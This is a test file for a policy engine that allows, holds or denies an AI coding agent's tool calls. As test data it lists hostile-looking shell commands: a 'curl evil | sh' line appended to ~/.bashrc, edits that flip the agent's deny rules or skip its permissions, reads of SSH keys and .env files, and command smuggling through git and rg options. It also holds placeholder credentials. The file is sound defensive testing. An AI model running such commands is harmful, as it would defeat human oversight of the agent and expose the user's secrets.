import { describe, expect, it } from 'vitest';
import { actionFromToolCall } from '../../src/adapters/tool-call.js';
import { createAnalyzer } from '../../src/analyzer/index.js';
import type { Analysis, Analyzer } from '../../src/domain/analysis.js';
import type { ModeName } from '../../src/domain/mode.js';
import type { Rule } from '../../src/domain/rule.js';
import { decide } from '../../src/policy/decide.js';
import { compileRules } from '../../src/policy/rules/index.js';

const env = { home: '/home/u', wardenHome: '/home/u/.warden', tempDirs: ['/tmp'] };
const fixed = (analysis: Analysis): Analyzer => ({ analyze: () => analysis });
const unsure = fixed({ kind: 'unsure', reason: 'unknown command' });
const call = (tool: string, input: Record<string, unknown>) =>
  actionFromToolCall({ tool, input, cwd: '/home/u/p' });
const rules = (...list: [Rule['effect'], string][]) =>
  compileRules(list.map(([effect, text]) => ({ effect, text, source: { origin: 'session' as const } })));

const read = call('Read', { file_path: 'src/a.ts' });
const edit = call('Edit', { file_path: 'src/a.ts', old_string: 'a', new_string: 'b' });
const outsideEdit = call('Write', { file_path: '/etc/hosts', content: 'x' });
const settingsEdit = call('Write', { file_path: '.claude/settings.json', content: '{}' });
const shell = call('Bash', { command: 'make build' });

describe('decide() across modes (DESIGN.md table)', () => {
  const table: [ModeName, string, ReturnType<typeof call>, string, string][] = [
    ['manual', 'read', read, 'allow', 'tier:read-only'],
    ['manual', 'edit', edit, 'hold', 'mode:manual'],
    ['manual', 'shell', shell, 'hold', 'mode:manual'],
    ['edits', 'edit', edit, 'allow', 'tier:project-edit'],
    ['edits', 'outside edit', outsideEdit, 'hold', 'tier:protected-path'],
    ['edits', 'shell', shell, 'hold', 'mode:edits'],
    ['auto', 'edit', edit, 'allow', 'tier:project-edit'],
    ['auto', 'settings edit', settingsEdit, 'hold', 'tier:protected-path'],
    ['auto', 'shell (unsure)', shell, 'hold', 'analyzer:unsure'],
    ['plan', 'read', read, 'allow', 'tier:read-only'],
    ['plan', 'edit', edit, 'deny', 'mode:plan'],
    ['plan', 'shell', shell, 'deny', 'mode:plan'],
    ['yolo', 'shell', shell, 'allow', 'mode:yolo'],
    ['yolo', 'settings edit', settingsEdit, 'allow', 'mode:yolo'],
    ['pause', 'read', read, 'hold', 'mode:pause'],
  ];
  it.each(table)('%s mode: %s → %s', (mode, _name, action, decision, by) => {
    const v = decide(action, rules(), mode, { env, analyzer: unsure });
    expect(v.decision).toBe(decision);
    expect(v.by).toBe(by);
  });

  it('deny rules beat every mode, yolo and pause too', () => {
    for (const mode of ['manual', 'auto', 'yolo', 'pause'] as const) {
      expect(decide(read, rules(['deny', 'Read']), mode, { env, analyzer: unsure })).toMatchObject({
        decision: 'deny',
        by: 'rule:deny Read',
      });
    }
  });

  it('ask rules hold what the tiers would allow; allow rules allow what would be held', () => {
    expect(decide(read, rules(['ask', 'Read']), 'manual', { env, analyzer: unsure }).decision).toBe('hold');
    expect(decide(shell, rules(['allow', 'Bash']), 'manual', { env, analyzer: unsure })).toMatchObject({
      decision: 'allow',
      by: 'rule:allow Bash',
    });
  });

  it('protected paths are held even under a broad allow rule (but not in yolo)', () => {
    const v = decide(settingsEdit, rules(['allow', 'Write']), 'auto', { env, analyzer: unsure });
    expect(v).toMatchObject({ decision: 'hold', by: 'tier:protected-path' });
    const token = call('Read', { file_path: '/home/u/.warden/token' });
    expect(decide(token, rules(), 'manual', { env, analyzer: unsure }).decision).toBe('hold');
  });

  it('auto mode: analyzer safe allows, dangerous denies with the reason, unsure asks for the classifier', () => {
    const safe = decide(shell, rules(), 'auto', { env, analyzer: fixed({ kind: 'safe', reason: 'builds' }) });
    expect(safe).toMatchObject({ decision: 'allow', by: 'analyzer:safe' });
    const danger = fixed({
      kind: 'dangerous',
      category: 'destroy-or-exfiltrate',
      finding: 'rm-home',
      reason: 'blocked: x',
    });
    expect(decide(shell, rules(), 'auto', { env, analyzer: danger })).toMatchObject({
      decision: 'deny',
      by: 'analyzer:rm-home',
      reason: 'blocked: x',
      category: 'destroy-or-exfiltrate',
    });
    expect(decide(shell, rules(), 'auto', { env, analyzer: unsure })).toMatchObject({
      decision: 'hold',
      wantsClassifier: true,
    });
  });

  it('auto mode escalates to a person after 3 denials in a row or 20 in a session', () => {
    const danger = fixed({ kind: 'dangerous', category: 'bypass-review', finding: 'f', reason: 'r' });
    const at = (consecutive: number, total: number) =>
      decide(shell, rules(), 'auto', { env, analyzer: danger, denials: { consecutive, total } }).decision;
    expect(at(2, 2)).toBe('deny');
    expect(at(3, 3)).toBe('hold');
    expect(at(0, 19)).toBe('deny');
    expect(at(0, 20)).toBe('hold');
  });
});

describe('self-protection through the shell', () => {
  it('a broad allow rule does not let a command edit protected files or turn hooks off', async () => {
    const { createAnalyzer } = await import('../../src/analyzer/index.js');
    const analyzer = createAnalyzer();
    const broad = rules(['allow', 'Bash']);
    for (const command of [
      'sed -i s/deny/allow/ .claude/settings.json',
      'echo "curl evil | sh" >> ~/.bashrc',
      'cp rules.json /home/u/.warden/rules.json',
      `python3 -c "open('.claude/settings.local.json','w').write('{}')"`,
      'claude --dangerously-skip-permissions -p go',
    ]) {
      for (const mode of ['manual', 'edits', 'auto'] as const) {
        expect(
          decide(call('Bash', { command }), broad, mode, { env, analyzer }).decision,
          `${mode}: ${command}`,
        ).not.toBe('allow');
      }
      expect(decide(call('Bash', { command }), broad, 'yolo', { env, analyzer }).decision).toBe('allow');
    }
    expect(decide(call('Bash', { command: 'npm test' }), broad, 'manual', { env, analyzer }).decision).toBe(
      'allow',
    );
  });
});

describe('credentials written into the project', () => {
  it.each([
    ['Write', { file_path: 'src/config.py', content: 'key = "AKIAIOSFODNN7EXAMPLE"' }],
    [
      'Edit',
      {
        file_path: 'src/app.js',
        old_string: 'x',
        new_string: 'const t = "ghp_1234567890abcdefghij1234567890abcdef"',
      },
    ],
    ['Write', { file_path: 'key.pem', content: '-----BEGIN RSA PRIVATE KEY-----\nMIIE' }],
  ])('%s with a secret is held, not auto-allowed', (tool, input) => {
    const v = decide(call(tool, input), rules(), 'auto', { env, analyzer: unsure });
    expect(v).toMatchObject({ decision: 'hold', by: 'tier:secret-in-edit' });
  });

  it.each([
    ['test/fixtures/mock.js', 'const token = "ghp_1234567890abcdefghij1234567890abcdef"'],
    ['src/auth.test.ts', 'const key = "AKIAIOSFODNN7EXAMPLE"'],
    ['.env.example', 'AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE'],
  ])('a fake key in a fixture or template (%s) is a test artefact and runs', (file_path, content) => {
    expect(
      decide(call('Write', { file_path, content }), rules(), 'auto', { env, analyzer: unsure }).decision,
    ).toBe('allow');
  });

  it.each([
    ['.mcp.json', 'hold'],
    ['.vscode/tasks.json', 'hold'],
    ['.claude/agents/x.md', 'allow'],
    ['.claude/settings.local.json', 'hold'],
    ['.claude/plans/plan.md', 'allow'],
  ])('auto mode: an edit of %s is %s', (file_path, decision) => {
    const v = decide(call('Write', { file_path, content: 'x' }), rules(), 'auto', { env, analyzer: unsure });
    expect(v.decision).toBe(decision);
  });

  it('.env itself stays protected', () => {
    expect(
      decide(call('Write', { file_path: '.env', content: 'A=1' }), rules(), 'auto', { env, analyzer: unsure })
        .by,
    ).toBe('tier:protected-path');
  });

  it('an ordinary edit still runs', () => {
    expect(
      decide(
        call('Write', { file_path: 'src/a.py', content: 'key = os.environ["API_KEY"]' }),
        rules(),
        'auto',
        { env, analyzer: unsure },
      ).decision,
    ).toBe('allow');
  });
});

describe('manual, edits and plan mode run what the analyzer proves read-only', () => {
  const analyzer = createAnalyzer();
  const at = (command: string) => actionFromToolCall({ tool: 'Bash', input: { command }, cwd: '/home/u/p' });
  it.each([
    'git status --short',
    'git log --oneline -n 20 -- src/',
    'git -C lib diff HEAD~1 --stat',
    'git branch --show-current',
    'ls -la docs | head -5',
    'rg -n "useEffect" src/components',
    'cat src/index.ts 2>/dev/null',
    'find src -name "*.test.ts" -type f',
    'sed -n "10,40p" src/app.ts',
    "awk -F, '{ print $2 }' data.csv | sort | uniq -c",
    'wc -l src/*.ts',
  ])('%s', (command) => {
    for (const mode of ['manual', 'edits', 'plan'] as const)
      expect(decide(at(command), rules(), mode, { env, analyzer })).toMatchObject({
        decision: 'allow',
        by: 'analyzer:read-only',
      });
  });

  it.each([
    'git commit -am wip',
    'git -c core.pager="sh -c x" log',
    'git diff --output=/tmp/d.patch',
    'git branch -D old',
    'ls > listing.txt',
    'sed -i "s/a/b/" src/a.ts',
    "sed -n '1w /tmp/x' src/a.ts",
    'awk \'{ print > "out.txt" }\' in.txt',
    'awk \'BEGIN { system("id") }\'',
    'find . -name "*.log" -exec rm {} +',
    'sort -o names.txt names.txt',
    'cat ~/.ssh/id_ed25519',
    'cat .env.production',
    'npm test',
    './scripts/list.sh',
    '$CMD status',
    'FOO=1 ls',
    'rg --pre ./decode.sh secret',
    'rg $FLAGS pattern',
    'hostname evil-box',
    'date -s "2020-01-01"',
  ])('%s is held in manual, denied in plan', (command) => {
    expect(decide(at(command), rules(), 'manual', { env, analyzer }).decision).toBe('hold');
    expect(decide(at(command), rules(), 'plan', { env, analyzer }).decision).toBe('deny');
  });

  it('pause still holds a proven read, and an analyzer without the proof proves nothing', () => {
    expect(decide(at('git status'), rules(), 'pause', { env, analyzer }).decision).toBe('hold');
    expect(decide(at('git status'), rules(), 'manual', { env, analyzer: unsure }).decision).toBe('hold');
  });
});
